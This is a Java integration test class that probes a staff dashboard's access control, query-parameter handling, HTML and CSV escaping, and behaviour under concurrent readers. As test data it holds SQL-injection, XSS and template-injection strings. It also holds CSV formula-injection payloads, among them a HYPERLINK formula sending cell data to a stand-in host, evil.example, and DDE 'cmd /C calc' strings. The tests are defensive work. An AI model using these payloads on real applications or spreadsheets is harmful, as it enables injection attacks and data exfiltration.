package fi.silta.dashboard;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Date;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import org.camunda.bpm.engine.IdentityService;
import org.camunda.bpm.engine.TaskService;
import org.camunda.bpm.engine.impl.util.ClockUtil;
import org.camunda.bpm.engine.task.Task;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

import fi.silta.demo.DemoData;
import fi.silta.security.TasklistFilterCards;
import fi.silta.support.SiltaIntegrationTest;
import fi.silta.support.StaffClient;

/**
 * The dashboards and the staff home as an outsider or a staff member of the wrong role would try them:
 * addresses that are not quite the dashboards', hostile parameters, hostile texts in what the figures
 * list, and many readers at once.
 */
@SiltaIntegrationTest
class DashboardAttackTest {

    static final String PASSWORD = "silta-demo";
    static final String MANAGER = "pekka.koskinen";
    static final Pattern FILTER_LINK = Pattern.compile(
            "<a href=\"/camunda/app/tasklist/default/#/\\?filter=([^\"]+)\"><span>([^<]+)</span>\\s*<span class=\"count\">([^<]+)<span class=\"visually-hidden\">");

    @LocalServerPort int port;
    @Autowired TaskService taskService;
    @Autowired IdentityService identityService;
    @Autowired TasklistFilterCards filterCards;

    private final List<String> tasks = new ArrayList<>();

    @AfterEach
    void cleanUp() {
        ClockUtil.reset();
        tasks.forEach(id -> taskService.deleteTask(id, true));
    }

    /** Reviewers, liaisons and hyte coordinators reach no dashboard, its CSV or its data by any spelling of the address. */
    @ParameterizedTest
    @ValueSource(strings = {"mikko.korhonen", "jussi.makinen", "sanna.heikkinen", "timo.laine"})
    void rolesWithoutTheDashboardsAreRefusedWhateverTheAddress(String user) {
        StaffClient client = StaffClient.signedIn(port, user, PASSWORD);
        for (String path : List.of("/staff/dashboards", "/staff/dashboards/", "/staff/dashboards/overview", "/staff/dashboards/overview/",
                "/staff/dashboards/grants", "/staff/dashboards/commenting", "/staff/dashboards/grants?round=1",
                "/staff/dashboards/overview/groups.csv", "/staff/dashboards/overview/oldest.csv", "/staff/dashboards/grants/rounds.csv",
                "/staff/dashboards/grants/../overview", "/staff/dashboards/grants/%2e%2e/overview", "/staff/dashboards%2Foverview",
                "/staff/Dashboards/overview", "/staff/DASHBOARDS/overview", "/staff/dashboards/OVERVIEW", "/staff//dashboards/overview",
                "/staff/./dashboards/overview", "/staff/dashboards/overview;x=1", "/staff/dashboards;x=1/overview",
                "/staff/dashboards/overview/groups.csv;.css", "/staff/dashboards/overview.json", "/staff/dashboards/overview/groups.CSV",
                "/STAFF/dashboards/overview")) {
            HttpResponse<String> response = client.get(path);
            assertThat(response.statusCode()).as(user + " " + path).isNotEqualTo(200).isLessThan(500);
            assertThat(response.body()).as(user + " " + path).doesNotContain("data-chart", "class=\"figure\"", "table-scroll");
        }
        // nor the monitoring account, by HTTP Basic or signed in
        for (String path : List.of("/staff/dashboards/overview", "/staff/dashboards/overview/groups.csv")) {
            HttpResponse<String> basic = client.getWithBasic(path, DemoData.MONITORING_USER, PASSWORD);
            assertThat(basic.statusCode()).as(path).isNotEqualTo(200).isLessThan(500);
            assertThat(basic.body()).doesNotContain("data-chart", "table-scroll");
        }
        StaffClient monitor = new StaffClient(port);
        monitor.signIn(fi.silta.support.MonitoringUser.ensure(identityService), PASSWORD);
        assertThat(monitor.get("/staff/dashboards/overview").statusCode()).isEqualTo(403);
        assertThat(monitor.getBytes("/staff/dashboards/grants/rounds.csv").statusCode()).isEqualTo(403);
        // and an outsider is sent to sign in
        assertThat(new StaffClient(port).get("/staff/dashboards/overview/groups.csv").statusCode()).isIn(302, 401, 403);
    }

    /** The round parameter, however it is spelled, gives the page, or 404: never an error of the server, never the text echoed raw. */
    @Test
    void hostileRoundParametersGiveThePageOrNotFound() {
        StaffClient manager = StaffClient.signedIn(port, MANAGER, PASSWORD);
        for (String key : List.of("grants", "commenting")) {
            for (String round : List.of("-1", "0", "99999999999999999999", "999999999999999999", "1' or 1=1 --", "1;drop table grant_round",
                    "\"><script>alert(1)</script>", "1e3", "0x10", " 1", "１", "%00", "${7*7}", "[[${7*7}]]", "__${7*7}__::x")) {
                String query = "?round=" + URLEncoder.encode(round, StandardCharsets.UTF_8);
                HttpResponse<String> page = manager.get("/staff/dashboards/" + key + query);
                assertThat(page.statusCode()).as(key + query).isIn(200, 400, 404);
                assertThat(page.body()).as(key + query).doesNotContain("<script>alert(1)");
                HttpResponse<byte[]> csv = manager.getBytes("/staff/dashboards/" + key + "/rounds.csv" + query);
                assertThat(csv.statusCode()).as(key + query).isIn(200, 400, 404);
                if (csv.statusCode() == 200) {
                    assertThat(csv.headers().firstValue("Content-Disposition").orElse("")).doesNotContain("script", "'", ";drop");
                }
            }
            // repeated: one of them, no error
            assertThat(manager.get("/staff/dashboards/" + key + "?round=1&round=2").statusCode()).isIn(200, 404);
            assertThat(manager.get("/staff/dashboards/" + key + "?round=&round=x").statusCode()).isIn(200, 404);
            // a figure that is not on the page, a figure id that is no id
            assertThat(manager.getBytes("/staff/dashboards/" + key + "/nothing.csv").statusCode()).isEqualTo(404);
            assertThat(manager.getBytes("/staff/dashboards/" + key + "/ROUNDS.csv").statusCode()).isIn(400, 404);
        }
        assertThat(manager.get("/staff/dashboards/nothing").statusCode()).isEqualTo(404);
        assertThat(manager.getBytes("/staff/dashboards/overview/overdue.csv?round=1").statusCode()).isEqualTo(200);
    }

    /**
     * A task's name is typed by people (a model's author, or anyone who may rename a task over /engine-rest):
     * the overview escapes it on the page and defuses it in the CSV, as a spreadsheet would otherwise run it.
     */
    @Test
    void hostileTaskNamesAreEscapedOnTheOverviewAndDefusedInItsCsv() throws Exception {
        List<String> names = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\"><script>alert('dash')</script>", "a;b\r\n=c");
        // created twenty years ago, so that they head the list of the oldest tasks whatever else stands in the database
        ClockUtil.setCurrentTime(Date.from(ClockUtil.getCurrentTime().toInstant().minus(Duration.ofDays(7300))));
        for (String name : names) {
            Task task = taskService.newTask();
            task.setName(name);
            taskService.saveTask(task);
            tasks.add(task.getId());
        }
        ClockUtil.reset();
        StaffClient manager = StaffClient.signedIn(port, MANAGER, PASSWORD);
        String page = manager.get("/staff/dashboards/overview").body();
        assertThat(page).doesNotContain("<script>alert('dash')", "\"><script>").contains("&lt;script&gt;alert(");

        HttpResponse<byte[]> csv = manager.getBytes("/staff/dashboards/overview/oldest.csv");
        assertThat(csv.statusCode()).isEqualTo(200);
        String text = new String(csv.body(), StandardCharsets.UTF_8).substring(1);
        List<String> firstCells = new ArrayList<>();
        for (org.apache.commons.csv.CSVRecord record : org.apache.commons.csv.CSVFormat.Builder.create(org.apache.commons.csv.CSVFormat.EXCEL)
                .setDelimiter(';').get().parse(new java.io.StringReader(text))) {
            for (String cell : record) {
                assertThat("=+-@\t\r".indexOf(cell.isEmpty() ? 'x' : cell.charAt(0))).as("cell %s", cell).isEqualTo(-1);
            }
            firstCells.add(record.get(0));
        }
        for (String name : names) {
            assertThat(firstCells).as(name).contains("=+-@\t\r".indexOf(name.charAt(0)) >= 0 ? "'" + name : name);
        }
    }

    /**
     * Many readers at once: every home shows its reader's own filter counts (the engine's authentication is
     * per thread and always cleared), every dashboard answers, none with an error.
     */
    @Test
    void concurrentReadersEachSeeTheirOwnCountsAndNoErrors() throws Exception {
        List<String> readers = List.of("aino.virtanen", "mikko.korhonen", "helena.hamalainen", "timo.laine", "sanna.heikkinen",
                "ilkka.jarvinen", "jussi.makinen", "emilia.lahtinen");
        Map<String, StaffClient> clients = new LinkedHashMap<>();
        Map<String, Map<String, String>> expected = new LinkedHashMap<>();
        for (String reader : readers) {
            StaffClient client = StaffClient.signedIn(port, reader, PASSWORD);
            clients.put(reader, client);
            expected.put(reader, counts(client.get("/staff").body()));
            assertThat(expected.get(reader)).as(reader).isNotEmpty();
        }
        StaffClient manager = StaffClient.signedIn(port, MANAGER, PASSWORD);
        ExecutorService pool = Executors.newFixedThreadPool(32);
        try {
            List<Callable<String>> jobs = new ArrayList<>();
            for (int round = 0; round < 4; round++) {
                for (String reader : readers) {
                    jobs.add(() -> {
                        HttpResponse<String> home = clients.get(reader).get("/staff");
                        if (home.statusCode() != 200) {
                            return reader + ": " + home.statusCode();
                        }
                        Map<String, String> counts = counts(home.body());
                        return counts.equals(expected.get(reader)) ? null : reader + ": " + counts + " not " + expected.get(reader);
                    });
                }
                for (String path : List.of("/staff/dashboards/overview", "/staff/dashboards/grants", "/staff/dashboards/commenting",
                        "/staff/dashboards/overview/groups.csv")) {
                    jobs.add(() -> {
                        int status = manager.getBytes(path).statusCode();
                        return status == 200 ? null : path + ": " + status;
                    });
                }
                // the counts in process on pool threads: each leaves its thread with no engine authentication
                for (String reader : readers) {
                    jobs.add(() -> {
                        filterCards.counts(reader, Locale.forLanguageTag("fi"));
                        return identityService.getCurrentAuthentication() == null ? null
                                : "authentication left on the thread: " + identityService.getCurrentAuthentication().getUserId();
                    });
                }
            }
            List<String> problems = new ArrayList<>();
            for (Future<String> result : pool.invokeAll(jobs)) {
                if (result.get() != null) {
                    problems.add(result.get());
                }
            }
            assertThat(problems).isEmpty();
        } finally {
            pool.shutdownNow();
        }
    }

    /** The home's filter counts by filter id. */
    static Map<String, String> counts(String home) {
        Map<String, String> counts = new LinkedHashMap<>();
        Matcher m = FILTER_LINK.matcher(home);
        while (m.find()) {
            counts.put(m.group(1), m.group(3).strip());
        }
        return counts;
    }
}
